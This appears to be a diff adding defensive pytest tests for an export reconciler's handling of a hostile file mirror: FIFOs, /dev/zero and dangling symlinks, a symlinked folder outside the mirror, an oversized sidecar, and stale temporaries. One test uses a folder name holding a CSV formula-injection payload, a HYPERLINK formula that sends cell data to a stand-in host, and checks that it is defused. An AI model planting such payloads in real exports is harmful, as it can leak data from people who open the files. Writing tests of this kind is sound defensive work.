@@ -220,3 +220,124 @@ def test_an_async_details_job_owes_what_the_query_owes(tmp_path, shared, monkeyp
         )
         == manifests["query"]
     )
+
+
+# --- a hostile mirror (issue 26: FIFOs, /dev/zero, links, formulas, huge sidecars, leftovers) ---
+
+
+def _objects(bucket: Path, suffix: str) -> list[Path]:
+    return sorted(p for p in bucket.rglob(f"*{suffix}") if p.is_file() and not p.is_symlink())
+
+
+def test_fifos_device_links_and_dangling_links_are_rows_not_hangs(tmp_path, shared):
+    import os
+
+    srv, bucket = shared
+    bucket = bucket_copy(bucket, tmp_path)
+    metas = _objects(bucket, "_metadata.json")
+    fifo, zero, dangling = metas[0], metas[1], _objects(bucket, ".opus")[2]
+    fifo.unlink()
+    os.mkfifo(fifo)  # a reader that opens it blocks until a writer comes: never
+    zero.unlink()
+    zero.symlink_to("/dev/zero")  # endless
+    dangling.unlink()
+    dangling.symlink_to(tmp_path / "nowhere.opus")
+    manifest = tmp_path / "m"
+    assert reconcile("--dir", str(bucket), manifest=manifest) == 1  # returns: nothing hangs
+    by_key = {r["key"]: r for r in rows(manifest)}
+    rel = lambda p: p.relative_to(bucket).as_posix()  # noqa: E731
+    audio_of = lambda m: rel(m).removesuffix("_metadata.json")  # noqa: E731
+    fifo_row, zero_row = by_key[audio_of(fifo)], by_key[audio_of(zero)]
+    assert fifo_row["status"] == "corrupt" and "not a regular file" in fifo_row["detail"]
+    assert zero_row["status"] == "corrupt" and "a link (to /dev/zero)" in zero_row["detail"]
+    link_row = by_key[rel(dangling)]
+    assert link_row["status"] == "corrupt" and "a link" in link_row["detail"]
+    assert int(link_row["size"]) == 0  # never the link's own length
+
+
+def test_a_linked_folder_is_reported_and_not_walked_out_of_the_mirror(tmp_path, shared):
+    srv, bucket = shared
+    bucket = bucket_copy(bucket, tmp_path)
+    outside = tmp_path / "outside"
+    month = next(p for p in bucket.rglob("month=*") if p.is_dir())
+    shutil.move(month, outside)  # the month's folder now lives outside, linked back in
+    month.symlink_to(outside, target_is_directory=True)
+    manifest = tmp_path / "m"
+    assert reconcile("--dir", str(bucket), manifest=manifest) == 1
+    found = rows(manifest)
+    walked = [r for r in found if r["status"] in ("exported", "incomplete")]
+    assert not walked  # nothing inside the link was taken for the export
+    linked = [r for r in found if "a link" in r["detail"]]
+    assert linked and all(r["status"] == "unexpected" for r in linked)
+    assert any(r["status"] == "missing" for r in found)  # what it held is owed and not there
+
+
+def test_formula_folders_and_keys_outside_the_layout_are_unexpected_and_defused(tmp_path, shared):
+    srv, bucket = shared
+    bucket = bucket_copy(bucket, tmp_path)
+    hour = next(p for p in bucket.rglob("hour=*") if p.is_dir())
+    evil = hour / 'conversation_id==HYPERLINK("x.example?"&A1,"click")'
+    evil.mkdir()
+    (evil / "r.opus").write_bytes(b"OggS")
+    (hour / "stray.opus").write_bytes(b"OggS")  # not in a conversation's folder
+    manifest = tmp_path / "m"
+    assert reconcile("--dir", str(bucket), manifest=manifest) in (0, 1)
+    strangers = [
+        r for r in rows(manifest) if r["status"] == "unexpected" and not r["conversation_id"]
+    ]
+    keys = {r["key"] for r in strangers}
+    assert any("HYPERLINK" in k for k in keys) and any(k.endswith("/stray.opus") for k in keys)
+    with open(manifest.with_suffix(".csv"), newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    formula = [c for c in cells if "HYPERLINK" in c]
+    assert formula and all(not c.startswith(("=", "+", "-", "@")) for c in cells)
+    jsonl = manifest.with_suffix(".jsonl").read_text()
+    assert "conversation_id==HYPERLINK" in jsonl  # the JSON lines stay exact
+
+
+@pytest.mark.timeout(240)
+def test_a_huge_sidecar_is_a_row_under_a_memory_cap(tmp_path, shared):
+    """A 2.6 GB sparse sidecar (no disk used) with --verify, in a process capped at 1 GB: one
+    corrupt row, and the manifest written."""
+    import os
+    import subprocess
+    import sys
+
+    srv, bucket = shared
+    bucket = bucket_copy(bucket, tmp_path)
+    meta = _objects(bucket, "_metadata.json")[0]
+    with open(meta, "r+b") as f:
+        f.truncate(2_600_000_000)
+    manifest = tmp_path / "m"
+    cap = "import resource,sys;resource.setrlimit(resource.RLIMIT_AS,(1<<30,1<<30));"
+    run = f"{cap}from genesys_tui.cli.main import main;sys.exit(main(sys.argv[1:]))"
+    args = ["export", "reconcile", "--interval", SPAN, "--dir", str(bucket), "--verify", "all"]
+    r = subprocess.run(
+        [sys.executable, "-c", run, *args, "--manifest", str(manifest)],
+        env=os.environ.copy(),
+        capture_output=True,
+        text=True,
+        timeout=200,
+    )
+    assert r.returncode in (0, 1), r.stderr[-2000:]
+    row = next(
+        x
+        for x in rows(manifest)
+        if x["key"] == meta.relative_to(bucket).as_posix().removesuffix("_metadata.json")
+    )
+    assert row["status"] == "corrupt" and "2,600,000,000 bytes" in row["detail"]
+
+
+def test_a_killed_runs_manifest_temporaries_are_swept(tmp_path, shared):
+    import os
+
+    srv, bucket = shared
+    manifest = tmp_path / "m"
+    left = [tmp_path / "m.csv.0123abcd.part", tmp_path / "m.jsonl.89abcdef.part"]
+    other = tmp_path / "notes.txt.0123abcd.part"  # another file's: not this run's to sweep
+    old = time.time() - 3600
+    for p in (*left, other):
+        p.write_text("half")
+        os.utime(p, (old, old))
+    assert reconcile("--dir", str(bucket), manifest=manifest) in (0, 1)
+    assert not any(p.exists() for p in left) and other.exists()
